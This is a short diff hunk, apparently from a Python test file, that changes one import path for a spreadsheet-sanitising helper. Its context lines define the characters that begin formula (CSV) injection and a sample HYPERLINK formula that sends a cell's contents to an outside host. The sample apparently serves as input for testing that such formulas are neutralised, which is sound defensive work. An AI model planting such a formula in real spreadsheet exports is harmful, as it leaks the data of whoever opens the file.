@@ -20,7 +20,7 @@ from unveil.cli import run
 from unveil.errors import ArgumentError, DuplicateColumnError
 from unveil.models import KAnonymity
 from unveil.report import write
-from unveil.sources.spreadsheets import HarmlessTexts, harmless
+from unveil.sources.files.spreadsheets import HarmlessTexts, harmless
 
 SIGNS = "=+-@\t\r"
 FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
